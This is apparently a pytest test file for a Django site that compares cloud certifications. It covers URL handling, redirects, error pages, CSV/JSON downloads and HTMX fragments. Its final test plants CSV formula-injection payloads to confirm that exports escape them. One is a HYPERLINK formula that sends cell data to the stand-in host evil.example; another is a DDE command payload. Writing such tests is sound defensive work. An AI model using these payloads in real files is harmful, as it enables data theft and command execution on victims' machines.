"""The comparison pages through real requests: every URL form, good and bad."""

import csv
import io
import json
import re

import pytest

from certs.models import Certification, Disagreement, Feature, Priority, Value, Vendor

from .factories import make_source

pytestmark = pytest.mark.django_db


def test_picker_lists_the_catalog_as_a_plain_get_form(client):
    response = client.get("/compare/")
    assert response.status_code == 200
    html = response.content.decode()
    assert '<form method="get" action="/compare/"' in html
    for cert in Certification.objects.all():
        assert f'name="c" value="{cert.slug}"' in html
    # A collapsible group per vendor, in the vendors' display order, the name as its legend.
    groups = re.findall(r'<details class="picker__vendor"( open)?>\s*<summary>([^<]+?) <', html)
    assert [name for _, name in groups] == [v.name for v in Vendor.objects.order_by("order")]
    assert not any(is_open for is_open, _ in groups)  # nothing ticked: 29 fit a phone
    for vendor in Vendor.objects.all():
        assert f'<legend class="visually-hidden">{vendor.name}</legend>' in html


def test_picker_opens_the_vendors_of_the_ticked_ones(client):
    html = client.get("/compare/?c=pmle").content.decode()
    opened = re.findall(r'<details class="picker__vendor" open>\s*<summary>([^<]+?) <', html)
    assert opened == ["Google Cloud"]
    compared = client.get("/compare/mla-c02-vs-pmle-vs-ai-103/").content.decode()
    opened = re.findall(r'<details class="picker__vendor" open>\s*<summary>([^<]+?) <', compared)
    assert opened == ["Google Cloud", "Microsoft", "AWS"]


def test_picker_sends_a_choice_to_the_canonical_url(client):
    response = client.get("/compare/?c=ai-103&c=pmle")
    assert response.status_code == 302
    assert response["Location"] == "/compare/pmle-vs-ai-103/"


@pytest.mark.parametrize(
    "query,message",
    [
        pytest.param("c=pmle", "the address names 1", id="one-certification"),
        pytest.param(
            "c=pmle&c=ai-103&c=ai-300&c=mla-c02&c=aif-c01", "names 5", id="five-certifications"
        ),
        pytest.param("c=pmle&c=pmle", "appears twice", id="the-same-one-twice"),
    ],
)
def test_picker_shows_a_wrong_choice_again_with_its_error(client, query, message):
    response = client.get(f"/compare/?{query}")
    assert response.status_code == 200
    html = response.content.decode()
    assert 'role="alert"' in html and message in html
    assert 'value="pmle" id="pick-pmle" checked' in html


def test_picker_refuses_an_unknown_certification(client):
    response = client.get("/compare/?c=pmle&c=not-a-cert")
    assert response.status_code == 400
    assert "not-a-cert" in response.content.decode()


@pytest.mark.parametrize(
    "path,canonical",
    [
        ("ai-103-vs-pmle", "pmle-vs-ai-103"),
        ("PMLE-vs-AI-103", "pmle-vs-ai-103"),
        ("ai-102-vs-mla-c02-vs-pmle", "mla-c02-vs-pmle-vs-ai-102"),
    ],
)
def test_other_orders_and_spellings_redirect_permanently(client, path, canonical):
    response = client.get(f"/compare/{path}/?only=diff")
    assert response.status_code == 301
    assert response["Location"] == f"/compare/{canonical}/?only=diff"


@pytest.mark.parametrize(
    "path,status,text",
    [
        ("pmle", 400, "from 2 to 4"),
        ("pmle-vs-ai-103-vs-ai-300-vs-mla-c02-vs-aif-c01", 400, "names 5"),
        ("pmle-vs-pmle", 400, "appears twice"),
        ("pmle-vs-nope", 404, "We do not cover a certification called “nope”"),
    ],
)
def test_bad_comparisons_get_a_readable_page(client, path, status, text):
    response = client.get(f"/compare/{path}/")
    assert response.status_code == status
    html = response.content.decode()
    assert text in html and 'class="site-header"' in html


@pytest.mark.parametrize(
    "query", ["only=yes", "format=xml", "p=unknown", "p=cost&p=cost", "only=diff&only=diff"]
)
def test_junk_query_values_get_400(client, query):
    response = client.get(f"/compare/pmle-vs-ai-103/?{query}")
    assert response.status_code == 400
    assert "This comparison cannot be shown" in response.content.decode()


def test_comparison_table_has_headers_anchors_sources_and_dates(client):
    response = client.get("/compare/pmle-vs-ai-103/")
    assert response.status_code == 200
    html = response.content.decode()
    assert "<caption>PMLE vs AI-103, side by side</caption>" in html
    assert '<th scope="col"><a href="/certifications/pmle/">PMLE</a>' in html
    for feature in Feature.objects.all():
        assert f'id="row-{feature.slug}"' in html
    # Most rows of two different exams differ: the few that are the same are marked instead,
    # in text, not only colour, and the table says so once.
    same = html.count('<span class="tag tag--same">same</span>')
    assert same >= 1 and "differs</span>" not in html
    assert f"rows differ, so only the {same} row" in html
    assert "verified <time" in html  # one click away, inside the cell's source marker
    assert 'id="row-cost-5-years"' in html
    assert "Download this comparison" in html


def test_pair_editorial_answers_above_the_table(client):
    # The answer first: who should choose which, above the table; the full take follows it.
    html = client.get("/compare/pmle-vs-ai-102/").content.decode()
    assert "Our take:" in html
    assert html.index("Who should choose which") < html.index('class="matrix ')
    assert 'href="#editorial">Read our full take' in html


def test_retired_column_offers_its_successor(client):
    html = client.get("/compare/pmle-vs-ai-102/").content.decode()
    assert "banner--retired" in html
    assert 'href="/compare/pmle-vs-ai-103/">Compare AI-103 instead' in html


def test_show_differences_only_hides_identical_rows(client):
    all_rows = client.get("/compare/ai-103-vs-ai-300/").content.decode()
    diff = client.get("/compare/ai-103-vs-ai-300/?only=diff").content.decode()
    hidden = all_rows.count('<tr id="row-') - diff.count('<tr id="row-')
    assert hidden > 0
    assert f"{hidden} identical row" in diff


def test_priorities_move_rows_up_and_give_a_verdict(client):
    slugs = list(Priority.objects.filter(feature__isnull=False).values_list("slug", flat=True)[:2])
    query = "&".join(f"p={slug}" for slug in slugs)
    html = client.get(f"/compare/mla-c02-vs-pmle/?{query}").content.decode()
    assert "Your priorities" in html and "your priority</span>" in html
    assert "On your priorities" in html
    assert html.index("Your priorities") < html.index("At a glance")


def test_downloads_carry_sources_and_dates(client):
    response = client.get("/compare/pmle-vs-ai-103/?format=csv")
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="compare-pmle-vs-ai-103.csv"' in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    fee = next(r for r in rows if r["row_id"] == "exam-fee" and r["certification"] == "pmle")
    assert fee["value"].startswith("USD 200") and fee["verified_on"] == "2026-11-25"
    assert fee["source_url"].startswith("https://")
    data = json.loads(client.get("/compare/pmle-vs-ai-103/?format=json").content)
    assert data["certifications"] == ["pmle", "ai-103"]
    assert any(r["row_id"] == "cost-3-years" for r in data["rows"])


def test_fragment_and_vary(client):
    full = client.get("/compare/pmle-vs-ai-103/?only=diff")
    fragment = client.get("/compare/pmle-vs-ai-103/?only=diff", headers={"HX-Request": "true"})
    assert "HX-Request" in full["Vary"] and "HX-Request" in fragment["Vary"]
    body = fragment.content.decode()
    assert "<html" not in body and '<div id="compare-table">' in body
    assert body.lstrip().startswith("<title>PMLE vs AI-103: compare certifications")
    assert "identical rows hidden." in body and 'hx-swap-oob="true"' in body
    restore = client.get(
        "/compare/pmle-vs-ai-103/",
        headers={"HX-Request": "true", "HX-History-Restore-Request": "true"},
    )
    assert "<html" in restore.content.decode()


def test_home_links_to_the_comparison_tool(client):
    html = client.get("/").content.decode()
    assert 'href="/compare/pmle-vs-ai-102/"' in html


def test_writes_are_refused(client):
    assert client.post("/compare/pmle-vs-ai-103/").status_code == 405
    assert client.post("/compare/").status_code == 405


@pytest.mark.parametrize("path", ["pmle-vs-ai-103", "mla-c02-vs-pmle-vs-ai-102-vs-ai-103"])
def test_query_count_is_constant(client, django_assert_num_queries, path, more_content):
    with django_assert_num_queries(COMPARE_QUERIES):
        client.get(f"/compare/{path}/?p=cost&only=diff")
    more_content()
    with django_assert_num_queries(COMPARE_QUERIES):
        client.get(f"/compare/{path}/?p=cost&only=diff")


COMPARE_QUERIES = 8


def test_each_disagreement_shows_beside_its_own_fact(client):
    # The disagreements of all compared certifications come in one query and are handed out.
    fee = Value.objects.get(certification__slug="pmle", feature__slug="exam-fee")
    elsewhere = make_source(publisher="Another Publisher")
    Disagreement.objects.create(slug="fee-elsewhere", value=fee, source=elsewhere, says="USD 9.")
    retired = Certification.objects.get(slug="ai-102")
    Disagreement.objects.create(
        slug="date-elsewhere", certification=retired, source=elsewhere, says="Never retired."
    )
    html = client.get("/compare/mla-c02-vs-pmle-vs-ai-102/").content.decode()
    row = html.split('id="row-exam-fee"')[1].split("</tr>")[0]
    cells = row.split("<td>")[1:]
    assert ["Another Publisher</a> says: USD 9." in cell for cell in cells] == [False, True, False]
    banners = html.split('<div class="banner')[1:]
    assert [b.split(">")[0] for b in banners if "Never retired." in b] == [
        ' banner--retired" role="note" aria-label="AI-102 retired"'
    ]
    assert html.count("Never retired.") == 1


def test_pair_editorial_puts_each_verdict_under_its_own_certification(client):
    from certs.comparison import canonical_path_part
    from certs.models import Matchup

    for matchup in Matchup.objects.filter(is_published=True).select_related("first", "second"):
        pair = canonical_path_part([matchup.first, matchup.second])
        html = client.get(f"/compare/{pair}/").content.decode()
        for cert, text in (
            (matchup.first, matchup.choose_first_if),
            (matchup.second, matchup.choose_second_if),
        ):
            heading = f"<h3>Choose {cert.short_name} if…</h3><p>{text.split(chr(10))[0][:40]}"
            assert heading in html, (pair, cert.short_name)


def test_csv_cells_never_carry_a_live_formula(client):
    # A fact starting with =, +, - or @ used to be written verbatim: a spreadsheet runs it.
    from certs.models import Value

    fee = Value.objects.get(certification__slug="pmle", feature__slug="exam-fee")
    evil = {
        "text": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "note": "+cmd|' /C calc'!A0",
        "disagreement": "-2+3",
    }
    Value.objects.filter(pk=fee.pk).update(**evil)
    response = client.get("/compare/pmle-vs-ai-103/?format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    pmle_fee = next(r for r in rows if r[2] == "exam-fee" and r[3] == "pmle")
    assert "'" + evil["text"] in pmle_fee and "'" + evil["note"] in pmle_fee
    # JSON is data, not a spreadsheet: unchanged.
    data = client.get("/compare/pmle-vs-ai-103/?format=json").json()
    fee_row = next(
        r for r in data["rows"] if r["row_id"] == "exam-fee" and r["certification"] == "pmle"
    )
    assert fee_row["value"] == evil["text"] and fee_row["note"] == evil["note"]
